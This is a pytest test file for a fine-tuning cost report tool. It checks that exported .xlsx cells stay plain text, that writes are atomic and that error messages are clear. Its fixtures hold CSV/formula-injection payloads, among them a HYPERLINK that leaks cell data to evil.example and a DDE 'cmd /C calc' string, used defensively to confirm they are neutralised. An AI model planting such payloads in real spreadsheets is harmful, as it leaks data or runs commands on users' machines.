"""`ftcost report` safety: text from data is never a formula; nothing of the user's is overwritten;
bad input and unwritable paths give one clear line, exit 1 and nothing half-written; same inputs
give the same bytes."""

from __future__ import annotations

import os
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from _reportbook import Report
from ftcost.cli import main
from ftcost.report import OutputError, write_report, xlsx
from ftcost.report.xlsx import looks_like_formula
from ftcost.scenarios import example

# Text a spreadsheet would run as a formula or a DDE command if it were written as one.
EVIL = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "provider": "@SUM(1+1)*cmd|' /C calc'!A0",
    "source": "+1+2",
    "notes": "-2+3; and a control character \x01 here",
}
EVIL2 = {"name": "\t=1+1", "provider": "\r=2+2"}


def _entry(mid: str, fields: dict, base: dict) -> str:
    def q(s: str) -> str:
        return (
            '"'
            + s.replace("\\", "\\\\")
            .replace('"', '\\"')
            .replace("\t", "\\t")
            .replace("\r", "\\r")
            .replace("\x01", "\\u0001")
            + '"'
        )

    d = {
        "id": mid,
        "provider": "P",
        "name": mid.upper(),
        "status": "active",
        "source": "s",
        "notes": "",
    } | fields
    lines = ["[[model]]"] + [f"{k} = {q(v)}" for k, v in d.items()] + ["checked = 2026-11-27"]
    lines += [f"{k} = {v}" for k, v in base.items()]
    return "\n".join(lines) + "\n"


@pytest.fixture(scope="module")
def evil_prices(tmp_path_factory) -> Path:
    p = tmp_path_factory.mktemp("evil") / "evil.toml"
    prices = dict(base_input=2.5, base_output=10, ft_input=3.75, ft_output=15, training=25)
    cheap = dict(base_input=0.15, base_output=0.6, ft_input=0.3, ft_output=1.2, training=3)
    p.write_text(
        _entry("base-model", EVIL, prices) + "\n" + _entry("cand-model", EVIL2, cheap),
        encoding="utf-8",
    )
    return p


@pytest.fixture(scope="module")
def evil_report(tmp_path_factory, evil_prices) -> Path:
    d = tmp_path_factory.mktemp("evil-report")
    scen = d / "evil-scenarios.toml"
    scen.write_text(
        f"""title = "=EVIL()"
prices = "{evil_prices.as_posix()}"
[[scenario]]
name = "=1+2"
description = "@SUM(A1:A9)"
base = "base-model"
candidate = "cand-model"
training_tokens = "5M"
monthly_tokens = "1M"
[[scenario]]
name = "-1+1 second"
base = "base-model"
training_tokens = "5M"
monthly_tokens = "100M"
""",
        encoding="utf-8",
    )
    out = d / "evil.xlsx"
    assert main(["report", str(scen), "-o", str(out), "-q"]) == 0
    return out


def test_no_formula_anywhere_in_the_report(evil_report):
    z = zipfile.ZipFile(evil_report)
    sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert len(sheets) == 7
    for n in sheets:
        xml = z.read(n).decode()
        assert not re.search(r"<(?:\w+:)?f[ >]", xml), n  # no <f> element: values only
    assert "sharedStrings" not in " ".join(z.namelist()) or True  # inline strings are fine


def test_injected_text_is_plain_text_with_a_quote_prefix(evil_report):
    wb = openpyxl.load_workbook(evil_report)
    found: dict[str, list] = {}
    wanted = {
        EVIL["name"],
        EVIL["provider"],
        EVIL["source"],
        EVIL2["name"].strip(),  # price data is stripped when read: "=1+1" is what reaches a cell
        EVIL2["provider"].strip(),
        "=1+2",
        "@SUM(A1:A9)",
        "=EVIL()",
    }
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                if c.value in wanted:
                    found.setdefault(c.value, []).append(c)
    assert set(found) == wanted
    for text, cells in found.items():
        for c in cells:
            assert c.data_type == "s", (text, c.coordinate)
            assert c.quotePrefix, (text, c.parent.title, c.coordinate)
    # the illegal control character became a visible replacement, not a crash
    notes = [
        c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)
    ]
    assert any("control character \ufffd here" in v for v in notes)
    # chart titles and series names are literal text too
    z = zipfile.ZipFile(evil_report)
    assert not any(
        re.search(r"<(?:\w+:)?f>[^<]*EVIL", z.read(n).decode())
        for n in z.namelist()
        if n.startswith("xl/charts/")
    )


def test_cells_are_written_as_inline_strings_in_the_xml(evil_report):
    z = zipfile.ZipFile(evil_report)
    overview = z.read("xl/worksheets/sheet1.xml").decode()  # the Scenarios sheet
    assert re.search(r'<c r="B\d+" [^>]*t="inlineStr"[^>]*><is><t>=1\+2</t>', overview)
    summary = z.read("xl/worksheets/sheet2.xml").decode()
    assert re.search(r'<c r="A1" [^>]*t="inlineStr"[^>]*><is><t>=EVIL\(\)</t>', summary)


def test_tab_and_cr_prefixed_text_stays_text(tmp_path):
    """Straight through the writer (the data readers strip such text before it gets here)."""
    from ftcost.report import STYLES

    book = xlsx.Book(STYLES)
    sh = book.sheet("S", [20])
    texts = ["\t=1+1", "\r=2+2", "\n@SUM(1)", " +3", "-4", '=HYPERLINK("x")', "plain"]
    for t in texts:
        sh.row(t)  # a plain str: goes through Sheet.text
    out = tmp_path / "t.xlsx"
    xlsx.save(book, out, __import__("datetime").datetime(2026, 1, 1))
    xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert not re.search(r"<(?:\w+:)?f[ >]", xml)
    ws = openpyxl.load_workbook(out)["S"]
    got = [ws.cell(i, 1) for i in range(1, len(texts) + 1)]
    assert [c.value for c in got] == texts  # tabs, CR and newlines survive as they were
    assert all(c.data_type == "s" for c in got)
    assert [bool(c.quotePrefix) for c in got] == [True] * 6 + [False]


@pytest.mark.parametrize(
    ("text", "risky"),
    [
        ("=A1", True),
        ("+1", True),
        ("-1", True),
        ("@x", True),
        ("\t=1", True),
        ("\r=1", True),
        ("  =1", True),
        ("\uff1dSUM(1)", True),
        ("gpt-4o", False),
        ("Fine-tune", False),
        ("", False),
    ],
)
def test_looks_like_formula(text, risky):
    assert looks_like_formula(text) is risky


# ----------------------------------------------------------------- overwrite and atomic writing


def _no_temp_files(folder: Path) -> None:
    left = [p.name for p in folder.iterdir() if p.name.endswith(".part") or p.name.startswith(".")]
    assert left == []


def test_never_overwrites_without_force(tmp_path, capsys):
    out = tmp_path / "report.xlsx"
    out.write_bytes(b"the user's precious file")
    assert main(["report", "--example", "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "already exists" in err and "--force" in err
    assert out.read_bytes() == b"the user's precious file"
    _no_temp_files(tmp_path)
    assert main(["report", "--example", "-o", str(out), "--force", "-q"]) == 0
    assert zipfile.is_zipfile(out)
    assert Report(out).section("Summary").labelled()["Training cost"] == pytest.approx(15)
    assert oct(out.stat().st_mode & 0o777) != oct(0o600)  # normal permissions, not mkstemp's
    _no_temp_files(tmp_path)


def test_output_that_is_a_folder_or_not_xlsx(tmp_path, capsys):
    (tmp_path / "dir.xlsx").mkdir()
    assert main(["report", "--example", "-o", str(tmp_path / "dir.xlsx"), "--force"]) == 1
    assert "is a folder" in capsys.readouterr().err
    assert main(["report", "--example", "-o", str(tmp_path / "report.csv")]) == 1
    assert ".xlsx" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dir.xlsx"]


@pytest.mark.parametrize(
    "where",
    ["missing-folder/report.xlsx", "a-file.txt/report.xlsx", "/proc/ftcost-report.xlsx"],
)
def test_unwritable_paths_give_one_line(tmp_path, capsys, where):
    (tmp_path / "a-file.txt").write_text("x")
    target = Path(where) if where.startswith("/") else tmp_path / where
    assert main(["report", "--example", "-o", str(target)]) == 1
    err = capsys.readouterr().err
    assert err.startswith("ftcost: error: output: cannot write") and err.count("\n") == 1
    assert not target.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a-file.txt"]


@pytest.mark.skipif(os.geteuid() == 0, reason="root can write into a read-only folder")
def test_read_only_folder(tmp_path, capsys):
    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        assert main(["report", "--example", "-o", str(ro / "r.xlsx")]) == 1
        assert "not writable" in capsys.readouterr().err
    finally:
        ro.chmod(0o700)


def test_a_failure_while_writing_leaves_nothing_behind(tmp_path, monkeypatch, capsys):
    def broken_save(book, path, when, title=""):
        Path(path).write_bytes(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("ftcost.report.workbook.save", broken_save)
    out = tmp_path / "r.xlsx"
    assert main(["report", "--example", "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert "No space left on device" in err and err.count("\n") == 1
    assert list(tmp_path.iterdir()) == []


def test_an_interrupt_while_writing_leaves_nothing_behind(tmp_path, monkeypatch):
    def interrupted(book, path, when, title=""):
        Path(path).write_bytes(b"PK\x03\x04 half")
        raise KeyboardInterrupt

    monkeypatch.setattr("ftcost.report.workbook.save", interrupted)
    assert main(["report", "--example", "-o", str(tmp_path / "r.xlsx")]) == 130
    assert list(tmp_path.iterdir()) == []


def test_the_target_never_exists_half_written(tmp_path, monkeypatch):
    seen = {}
    real = xlsx.save

    def spy(book, path, when, title=""):
        seen["tmp"] = Path(path)
        seen["target_exists"] = (tmp_path / "r.xlsx").exists()
        real(book, path, when, title)

    monkeypatch.setattr("ftcost.report.workbook.save", spy)
    f = example()
    write_report(tmp_path / "r.xlsx", f.scenarios, f.prices)
    assert seen["tmp"].parent == tmp_path  # beside the target: the rename cannot cross devices
    assert seen["target_exists"] is False
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


def test_a_file_that_appears_meanwhile_is_not_clobbered(tmp_path, monkeypatch):
    real = xlsx.save

    def racing(book, path, when, title=""):
        real(book, path, when, title)
        (tmp_path / "r.xlsx").write_bytes(b"someone else's")

    monkeypatch.setattr("ftcost.report.workbook.save", racing)
    f = example()
    with pytest.raises(OutputError, match="already exists"):
        write_report(tmp_path / "r.xlsx", f.scenarios, f.prices)
    assert (tmp_path / "r.xlsx").read_bytes() == b"someone else's"
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]


# ----------------------------------------------------------------- determinism


def test_same_inputs_same_bytes(tmp_path, monkeypatch):
    a, b = tmp_path / "a", tmp_path / "b"
    a.mkdir()
    b.mkdir()
    assert main(["report", "--example", "-o", str(a / "report.xlsx"), "-q"]) == 0
    monkeypatch.chdir(b)  # another folder, another moment
    assert main(["report", "--example", "-o", "report.xlsx", "-q"]) == 0
    assert (a / "report.xlsx").read_bytes() == (b / "report.xlsx").read_bytes()
    z = zipfile.ZipFile(a / "report.xlsx")
    core = z.read("docProps/core.xml").decode()
    assert "2026-11-27T00:00:00Z" in core  # the price data's as-of date, not the clock
    assert {i.date_time for i in z.infolist()} == {(2026, 11, 27, 0, 0, 0)}


def test_multi_scenario_report_is_deterministic(tmp_path):
    src = Path(__file__).resolve().parents[1] / "workbook" / "example-scenarios.toml"
    outs = [tmp_path / "one.xlsx", tmp_path / "two.xlsx"]
    for o in outs:
        assert main(["report", str(src), "-o", str(o), "-q"]) == 0
    assert outs[0].read_bytes() == outs[1].read_bytes()


# ----------------------------------------------------------------- bad input


def test_damaged_or_foreign_input_files(tmp_path, capsys):
    junk = tmp_path / "junk.xlsx"
    junk.write_bytes(os.urandom(2000))
    cut = tmp_path / "cut.xlsx"
    f = example()
    write_report(tmp_path / "whole.xlsx", f.scenarios, f.prices)
    cut.write_bytes((tmp_path / "whole.xlsx").read_bytes()[:3000])
    text = tmp_path / "notes.txt"
    text.write_text("hello")
    for bad, words in (
        (junk, "not an .xlsx workbook"),
        (cut, "not an .xlsx workbook"),
        (text, "expected a scenario file (.toml) or a filled-in template (.xlsx)"),
        (tmp_path / "missing.xlsx", "file not found"),
        (tmp_path, "is a folder"),
    ):
        out = tmp_path / "out.xlsx"
        assert main(["report", str(bad), "-o", str(out)]) == 1, bad
        err = capsys.readouterr().err
        assert words in err and err.count("\n") == 1, err
        assert not out.exists()
    _no_temp_files(tmp_path)


def test_scenario_file_errors_name_file_line_scenario_and_field(tmp_path, capsys):
    bad = tmp_path / "bad.toml"
    bad.write_text(
        """[defaults]
base = "gpt-4o"
training_tokens = "5M"

[[scenario]]
name = "First"
monthly_tokens = "1M"
epoch = 3

[[scenario]]
name = "Second"
monthly_tokens = "lots"
candidate = "gpt4o-mini"

[[scenario]]
name = "first"
monthly_tokens = "1M"
""",
        encoding="utf-8",
    )
    out = tmp_path / "out.xlsx"
    assert main(["report", str(bad), "-o", str(out)]) == 1
    lines = capsys.readouterr().err.splitlines()
    assert lines[0] == (
        f"ftcost: error: {bad}:8: scenario 'First': epoch: unknown field — did you mean 'epochs'?"
    )
    assert (
        f"ftcost: error: {bad}:12: scenario 'Second': monthly_tokens: expected a number" in lines[1]
    )
    assert (
        lines[2]
        == f"ftcost: error: {bad}:15: scenario 'first': name: 'first' is also the name of scenario 1"
    )
    assert lines[-1] == "ftcost: error: 3 problems; nothing written"
    assert not out.exists()
    # the unknown model is caught once the values are right
    bad.write_text(
        bad.read_text()
        .replace("epoch =", "epochs =")
        .replace('"lots"', '"2M"')
        .replace('"first"', '"Third"')
    )
    assert main(["report", str(bad), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err == (
        f"ftcost: error: {bad}:13: scenario 'Second': candidate: unknown model 'gpt4o-mini' — "
        "did you mean 'gpt-4o-mini' or 'gpt-4.1-mini'?\n"
    )
    assert not out.exists()


def test_bad_toml_and_empty_files(tmp_path, capsys):
    for name, text, words in (
        ("broken.toml", "[[scenario]\nname = ", "bad TOML"),
        ("empty.toml", "", "no [[scenario]] tables"),
        (
            "typo.toml",
            "tilte = 'x'\n[[scenario]]\nbase='gpt-4o'\ntraining_tokens=1\nmonthly_tokens=1\n",
            "did you mean 'title'?",
        ),
        ("binary.toml", None, "not a UTF-8 text file"),
        (
            "prices.toml",
            'prices = "nope.toml"\n[[scenario]]\nbase="gpt-4o"\ntraining_tokens=1\nmonthly_tokens=1\n',
            "prices: price file not found",
        ),
    ):
        p = tmp_path / name
        if text is None:
            p.write_bytes(b"\xff\xfe\x00bin")
        else:
            p.write_text(text)
        assert main(["report", str(p), "-o", str(tmp_path / "o.xlsx")]) == 1
        err = capsys.readouterr().err
        assert words in err and str(p) in err and err.count("\n") == 1, err
    assert not (tmp_path / "o.xlsx").exists()


def test_scenario_errors_at_compute_time_name_the_scenario(tmp_path, capsys):
    p = tmp_path / "hours.toml"
    p.write_text(
        '[[scenario]]\nname = "RFT"\nbase = "gpt-4o"\ncandidate = "o4-mini"\n'
        'training_tokens = "1M"\nmonthly_tokens = "1M"\n'
    )
    assert main(["report", str(p), "-o", str(tmp_path / "o.xlsx")]) == 1
    err = capsys.readouterr().err
    assert err == (
        f"ftcost: error: {p}:1: scenario 'RFT': o4-mini is billed $100 per training hour: "
        "give training_hours\n"
    )
    assert not (tmp_path / "o.xlsx").exists()
